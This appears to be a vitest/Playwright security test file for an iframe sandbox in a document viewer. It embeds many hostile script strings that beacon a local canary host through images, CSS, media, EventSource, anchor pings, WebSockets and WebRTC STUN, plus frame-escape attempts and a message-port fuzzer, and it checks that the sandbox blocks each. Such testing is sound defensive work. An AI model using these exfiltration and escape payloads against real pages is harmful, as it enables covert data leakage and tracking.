import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { hostileDocument, runInFrame, runUnprotected } from './attacker.ts';
import { Desk, PATIENCE, startBench } from './harness.ts';
import type { Bench } from './harness.ts';

let bench: Bench;
let desk: Desk;

beforeAll(async () => {
  bench = await startBench();
});
afterAll(() => bench.close());
beforeEach(async () => {
  desk = await Desk.open(bench);
  bench.canary.hits.length = 0;
});
afterEach(() => desk.close());

const wait = 'await new Promise((y)=>setTimeout(y,500));';
const put = (html: string): string =>
  `const d=document.createElement('div');d.innerHTML=${JSON.stringify(html)}.replaceAll('CANARY',C);document.body.append(d);`;

describe('ways out, each shown to work where nothing protects', () => {
  test.each([
    ['a picture with choices', put('<img srcset="CANARY/1 1x"><picture><source srcset="CANARY/2"><img></picture>')],
    [
      'pictures in drawings',
      put(
        '<svg width=9 height=9><image href="CANARY/1" width=9 height=9 /><filter id=f><feImage href="CANARY/2"/></filter></svg>',
      ),
    ],
    [
      'sound and film',
      put('<video poster="CANARY/1" src="CANARY/2" preload=auto></video><audio src="CANARY/3" preload=auto></audio>'),
    ],
    [
      "what old pages have: a table's background, an image button, a track",
      put('<table background="CANARY/1"><tr><td background="CANARY/2">x</table><input type=image src="CANARY/3">'),
    ],
    [
      'a base address',
      `const b=document.createElement('base');b.href=C+'/base/';document.head.append(b);new Image().src='relative.png';${wait}`,
    ],
    [
      'style in many places',
      put(
        '<style>@font-face{font-family:z;src:url(CANARY/1)}p.z{font-family:z;cursor:url(CANARY/2),auto;list-style:url(CANARY/3);display:list-item;border-image:url(CANARY/4) 1}</style><p class=z style="background:url(CANARY/5)">z</p><link rel=stylesheet href="CANARY/6">',
      ),
    ],
    ['plug-ins', put('<object data="CANARY/1"></object><embed src="CANARY/2">')],
    [
      'a frame in the frame',
      `const f=document.createElement('iframe');f.srcdoc='<img src="'+C+'/1"><script>fetch("'+C+'/2",{mode:"no-cors"});new Image().src="'+C+'/3"<'+'/script>';document.body.append(f);${wait}`,
    ],
    ['an event stream', `new EventSource(C+'/events');${wait}`],
    [
      'a module',
      `const s=document.createElement('script');s.type='module';s.textContent='import("'+C+'/m.js")';document.body.append(s);import(C+'/n.js').catch(()=>0);${wait}`,
    ],
    ['a request that outlives the page', `fetch(C+'/x',{mode:'no-cors',keepalive:true}).catch(()=>0);${wait}`],
    [
      'a ping',
      `const a=document.createElement('a');a.href='#x';a.ping=C+'/ping';document.body.append(a);a.click();${wait}`,
    ],
  ])('%s', async (_name, script) => {
    const code = `${script}${wait}`;
    await runUnprotected(bench, desk, code);
    expect(bench.canary.hits, 'the attack works where nothing protects').not.toEqual([]);
    bench.canary.hits.length = 0;
    await runInFrame(bench, desk, code);
    expect(bench.canary.hits).toEqual([]);
  });

  test('connections that are no requests: a socket, a preconnect, and a STUN packet', async () => {
    const heard: string[] = [];
    const tcp = createServer((socket) => {
      heard.push('tcp');
      socket.on('error', () => undefined);
      socket.destroy();
    });
    const udp = createSocket('udp4', () => heard.push('udp'));
    await new Promise<void>((done) => void tcp.listen(0, '127.0.0.1', done));
    await new Promise<void>((done) => void udp.bind(0, '127.0.0.1', done));
    const at = `127.0.0.1:${(tcp.address() as AddressInfo).port}`;
    const code = `new WebSocket('ws://${at}/').onerror=()=>0;const l=document.createElement('link');l.rel='preconnect';l.href='http://${at}';document.head.append(l);
      try{const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udp.address().port}'}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())}catch{};${wait}`;
    try {
      await runUnprotected(bench, desk, code);
      expect(new Set(heard), 'the attack works where nothing protects').toEqual(new Set(['tcp', 'udp']));
      heard.length = 0;
      await desk.show(hostileDocument(bench, code));
      await desk.page.waitForFunction(
        () => window.page.seen.some(([name]) => name === 'onEdits' || name === 'onLost'),
        null,
        PATIENCE,
      );
      expect(heard).toEqual([]);
    } finally {
      await new Promise((done) => tcp.close(done));
      await new Promise<void>((done) => udp.close(() => done()));
    }
  });
});

describe('what a document may not reach', () => {
  test.each([
    ['the cache of the app', 'await caches.open("x");return "leaked"', /leaked/],
    [
      'its service workers',
      'return "leaked "+(await parent.navigator.serviceWorker.getRegistrations()).length',
      /leaked/,
    ],
    [
      'another frame of the page',
      'const f=document.createElement("iframe");f.src=A+"/control";parent.document.body.append(f);await new Promise((y)=>f.onload=y);return "leaked "+f.contentDocument.title',
      /leaked/,
    ],
    ['the elements around it', 'return "leaked "+frameElement.localName', /leaked/],
  ])('%s', async (_name, script, leak) => {
    expect(await runUnprotected(bench, desk, script)).toMatch(leak);
    expect(await runInFrame(bench, desk, script)).not.toMatch(leak);
  });

  test("the app's channels", async () => {
    const heard = (): Promise<unknown> => desk.page.evaluate((): unknown => Reflect.get(window, 'heard'));
    await desk.page.evaluate(() => {
      Reflect.set(window, 'heard', []);
      new BroadcastChannel('ready').onmessage = ({ data }) => (Reflect.get(window, 'heard') as unknown[]).push(data);
    });
    const script = `new BroadcastChannel('ready').postMessage('forged');${wait}`;
    await runUnprotected(bench, desk, script);
    expect(await heard()).toEqual(['forged']);
    await runInFrame(bench, desk, script);
    expect(await heard()).toEqual(['forged']);
  });

  test("the page's place in its history", async () => {
    await desk.page.goto(`${bench.origin}/?second`);
    await runInFrame(bench, desk, `history.back();history.go(-1);${wait}`);
    expect(desk.page.url()).toBe(`${bench.origin}/?second`);
    expect(await desk.page.evaluate(() => document.title)).toBe('Host');
  });

  test('the clipboard, the whole screen, a download and a window, not even on a press', async () => {
    const opened: string[] = [];
    desk.page.on('download', () => opened.push('download'));
    desk.page.context().on('page', () => opened.push('window'));
    await desk.paste('before');
    await desk.show(
      hostileDocument(
        bench,
        `document.onmousedown=async()=>{const t=[];
          try{await navigator.clipboard.writeText('taken');t.push('clipboard')}catch{}
          try{await document.documentElement.requestFullscreen();t.push('screen')}catch{}
          try{if(window.open(C+'/w'))t.push('window')}catch{}
          const a=document.createElement('a');a.href='data:text/plain,x';a.download='x.txt';document.documentElement.append(a);a.click();
          tell('tried '+t)};return 'armed'`,
      ),
    );
    await desk.value('out', 'armed');
    await desk.frame.locator('html').click({ position: { x: 200, y: 200 } });
    await desk.value('out', 'tried');
    expect(await desk.page.evaluate(() => navigator.clipboard.readText())).toBe('before');
    expect(opened).toEqual([]);
    expect(bench.canary.hits).toEqual([]);
  });

  test('the closing of the page: it cannot ask to stay', async () => {
    const asked: string[] = [];
    desk.page.on('dialog', (dialog) => {
      asked.push(dialog.type());
      void dialog.accept();
    });
    await runInFrame(bench, desk, "addEventListener('beforeunload',(e)=>{e.preventDefault();e.returnValue='stay'})");
    await desk.frame.locator('#out').click();
    await desk.page.goto(`${bench.origin}/?next`);
    expect(asked).toEqual([]);
  });
});

test('10,000 random messages at the live port: the frame goes, nothing else happens', async () => {
  await desk.show(
    hostileDocument(
      bench,
      `const post=MessagePort.prototype.postMessage;let port;MessagePort.prototype.postMessage=function(m){port=this;post.call(this,m)};
      tell('first');await new Promise((y)=>setTimeout(y,300));
      const types=['ready','edits','regions','snapshot','names','place','paste-url','open-link','hotkey','size','printed','pong','load',7,null];
      const odd=()=>[null,1e9,-1,NaN,'x'.repeat(Math.random()*4000),[],[[]],[['a']],{},new Map,new Date,undefined,true,[['__proto__',{}]]][Math.random()*14|0];
      for(let n=0;n<10000;n++){const m={type:types[Math.random()*types.length|0]};
        for(const k of['no','seq','values','changes','added','removed','names','href','where','key','url','id','height','newAttributes','error'])if(Math.random()<.4)m[k]=odd();
        try{post.call(port,Math.random()<.1?odd():m)}catch{}}`,
    ),
  );
  await desk.event('onMisbehaved');
  expect(desk.errors).toEqual([]);
  expect(await desk.page.locator('iframe').count()).toBe(0);
  expect((await desk.values())['out']).toBe('first');
  expect(await desk.seen('onOpenLink')).toEqual([]);
  expect(await desk.seen('onHotkey')).toEqual([]);
  expect(await desk.seen('onPasteUrl')).toEqual([]);
  await desk.page.locator('#own').fill('the page lives');
});
